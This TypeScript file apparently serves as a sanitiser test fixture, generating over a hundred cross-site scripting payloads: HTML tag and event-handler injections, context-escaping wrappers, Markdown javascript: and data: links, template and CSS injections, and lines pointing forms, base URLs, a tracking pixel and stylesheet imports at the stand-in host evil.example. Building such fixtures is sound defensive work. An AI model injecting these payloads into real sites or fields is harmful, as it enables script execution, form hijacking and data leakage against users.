// Script payloads for every place where a person's text meets markup: each attack in each wrapping.

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<body onpageshow=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><button>x',
];

const WRAPPINGS: ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `">${attack}`,
  (attack) => `'/>${attack}`,
  (attack) => `</title></textarea></script>${attack}`,
  (attack) => `<!--${attack}-->`,
  (attack) => `&lt;${attack}`,
  (attack) => `${attack.toUpperCase()}\n\n${attack}`,
  (attack) => `\\${attack}`,
];

/** Attacks that Markdown would build itself. */
const MARKDOWN = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](<javascript:alert(1)>)',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '![tracker](https://evil.example/pixel.gif)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](https://example.ee "onmouseover=alert(1)")',
  '[x](https://example.ee/"onmouseover="alert(1))',
  '```<script>\nalert(1)\n```',
  '# </h1><script>alert(1)</script>',
  '<script>\nalert(1)\n</script>',
  '<style>@import "//evil.example"</style>',
];

/** Over a hundred. */
export const PAYLOADS: readonly string[] = [
  ...ATTACKS.flatMap((attack) => WRAPPINGS.map((wrap) => wrap(attack))),
  ...MARKDOWN,
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is an attack on templates
  '${alert(1)}',
  '" autofocus onfocus="alert(1)',
  '#1f5c4d;background:url(//evil.example)',
];

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'video src=x',
  'audio src=x',
  'details open',
  'marquee',
  'object data=x',
  'select autofocus',
  'textarea autofocus',
  'iframe src=x',
  'math',
  'embed src=x',
  'style',
];
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover', 'onanimationstart'];
const CLOSERS = ['', '">', "'>"];

/** Over three hundred that fit on one line of at most 120 characters, as names do. */
export const NAMES: readonly string[] = [
  ...PAYLOADS.filter((payload) => payload.length <= 120 && !payload.includes('\n')),
  ...CLOSERS.flatMap((closer) =>
    ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `${closer}<${element} ${handler}=alert(1)>`)),
  ),
];
